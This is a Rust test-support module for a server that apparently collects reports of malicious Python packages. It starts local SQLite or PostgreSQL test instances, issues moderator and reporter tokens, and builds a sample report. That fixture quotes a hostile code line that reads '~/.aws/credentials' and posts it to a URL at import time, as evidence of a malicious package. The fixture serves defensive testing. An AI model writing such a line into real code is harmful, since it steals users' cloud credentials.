//! Starts a server on 127.0.0.1 for one test, on SQLite or on PostgreSQL
//! (when `PYWARD_TEST_POSTGRES_URL` is set; each test gets its own schema).

use pyward_server::{Config, Role};
use serde_json::{json, Value};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Backend {
    Sqlite,
    Postgres,
}

pub struct TestServer {
    pub url: String,
    pub config: Config,
    pub moderator: String,
    pub reporter: String,
    pub http: reqwest::Client,
    shutdown: Option<tokio::sync::oneshot::Sender<()>>,
    task: Option<tokio::task::JoinHandle<Result<(), pyward_server::ServerError>>>,
    schema: Option<(String, String)>,
    _dir: tempfile::TempDir,
}

pub const POSTGRES_ENV: &str = "PYWARD_TEST_POSTGRES_URL";

/// A server with one moderator and one reporter token, or `None` (with a
/// printed note) when PostgreSQL was asked for and is not configured.
pub async fn start(backend: Backend, tweak: impl FnOnce(&mut Config)) -> Option<TestServer> {
    let dir = tempfile::tempdir().unwrap();
    let mut config = Config::new(dir.path().join("data"));
    let mut schema = None;
    if backend == Backend::Postgres {
        let Ok(url) = std::env::var(POSTGRES_ENV) else {
            eprintln!("note: skipped on PostgreSQL: set {POSTGRES_ENV} (see .ci/postgres.sh)");
            return None;
        };
        let name = format!("t_{:016x}", rand_u64());
        let (client, conn) = tokio_postgres::connect(&url, tokio_postgres::NoTls)
            .await
            .unwrap_or_else(|e| panic!("{POSTGRES_ENV}={url}: {e}"));
        tokio::spawn(conn);
        client
            .batch_execute(&format!("CREATE SCHEMA {name}"))
            .await
            .unwrap();
        let sep = if url.contains('?') { '&' } else { '?' };
        config.database = Some(format!("{url}{sep}options=--search_path%3D{name}"));
        schema = Some((url, name));
    }
    tweak(&mut config);
    let moderator = pyward_server::create_token(&config, Role::Moderator, "mod-alice")
        .await
        .unwrap();
    let reporter = pyward_server::create_token(&config, Role::Reporter, "rep-bob")
        .await
        .unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (tx, rx) = tokio::sync::oneshot::channel();
    let task = tokio::spawn(pyward_server::serve(config.clone(), listener, async {
        let _ = rx.await;
    }));
    // A fresh connection per request: a request the server refused
    // mid-body (oversized) leaves its connection closed, and reusing it
    // would fail the next request in the same test.
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .pool_max_idle_per_host(0)
        .build()
        .unwrap();
    let server = TestServer {
        url: format!("http://{addr}"),
        config,
        moderator,
        reporter,
        http,
        shutdown: Some(tx),
        task: Some(task),
        schema,
        _dir: dir,
    };
    // Wait until it answers.
    for _ in 0..100 {
        if let Ok(r) = server.http.get(server.at("/healthz")).send().await {
            if r.status() == 200 {
                return Some(server);
            }
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("the test server did not start");
}

fn rand_u64() -> u64 {
    let mut b = [0u8; 8];
    getrandom::fill(&mut b).unwrap();
    u64::from_le_bytes(b)
}

/// A fresh report id.
pub fn new_id() -> String {
    format!("r-{:016x}", rand_u64())
}

/// A valid report body.
pub fn report(id: &str, package: &str, version: Option<&str>) -> Value {
    json!({
        "id": id,
        "package": package,
        "version": version,
        "reason": "uploads ~/.aws/credentials to a paste site at import",
        "evidence": [{
            "check": "scan",
            "severity": "critical",
            "package": { "name": package, "version": version, "file": "evil/__init__.py" },
            "title": "sends local credentials over the network at import time",
            "evidence": [
                { "kind": "location", "file": "evil/__init__.py", "line": 3, "snippet": "requests.post(URL, open(os.path.expanduser('~/.aws/credentials')).read())" },
                { "kind": "signal", "name": "secret-marker", "value": "EVIDENCE-ONLY-FOR-MODERATORS" }
            ],
            "advice": []
        }],
        "files": [{ "filename": "evil-1.0-py3-none-any.whl", "sha256": "ab".repeat(32), "size": 1234 }],
        "index_url": "https://pypi.org/simple/",
        "client": "pyward-test"
    })
}

impl TestServer {
    pub fn at(&self, path: &str) -> String {
        format!("{}{path}", self.url)
    }

    pub async fn submit(&self, token: Option<&str>, body: &Value) -> reqwest::Response {
        let mut req = self.http.post(self.at("/api/v1/reports")).json(body);
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        req.send().await.unwrap()
    }

    pub async fn post_json(
        &self,
        token: Option<&str>,
        path: &str,
        body: &Value,
    ) -> reqwest::Response {
        let mut req = self.http.post(self.at(path)).json(body);
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        req.send().await.unwrap()
    }

    pub async fn get(&self, token: Option<&str>, path: &str) -> reqwest::Response {
        let mut req = self.http.get(self.at(path));
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        req.send().await.unwrap()
    }

    /// Reports stored, whatever their status.
    pub async fn stored_reports(&self) -> i64 {
        let c: Value = self
            .get(Some(&self.moderator), "/api/v1/stats")
            .await
            .json()
            .await
            .unwrap();
        c["open"].as_i64().unwrap()
            + c["confirmed"].as_i64().unwrap()
            + c["dismissed"].as_i64().unwrap()
    }

    pub async fn flags(&self) -> Value {
        self.get(None, "/api/v1/flags").await.json().await.unwrap()
    }

    /// The server still answers and still accepts a valid report.
    pub async fn assert_alive(&self) {
        assert_eq!(self.get(None, "/healthz").await.status(), 200);
        let before = self.stored_reports().await;
        let r = self
            .submit(
                Some(&self.moderator),
                &report(&new_id(), "still-alive", None),
            )
            .await;
        assert_eq!(r.status(), 201, "a valid report after a bad request");
        assert_eq!(self.stored_reports().await, before + 1);
    }

    pub async fn stop(mut self) {
        if let Some(tx) = self.shutdown.take() {
            let _ = tx.send(());
        }
        if let Some(task) = self.task.take() {
            task.await.unwrap().unwrap();
        }
        if let Some((url, schema)) = self.schema.take() {
            let (client, conn) = tokio_postgres::connect(&url, tokio_postgres::NoTls)
                .await
                .unwrap();
            tokio::spawn(conn);
            client
                .batch_execute(&format!("DROP SCHEMA {schema} CASCADE"))
                .await
                .unwrap();
        }
    }
}

/// Run one async test body on both databases.
#[macro_export]
macro_rules! on_both {
    ($($name:ident),* $(,)?) => {
        $(
            pub mod $name {
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn sqlite() {
                    super::$name($crate::common::Backend::Sqlite).await;
                }
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn postgres() {
                    super::$name($crate::common::Backend::Postgres).await;
                }
            }
        )*
    };
}
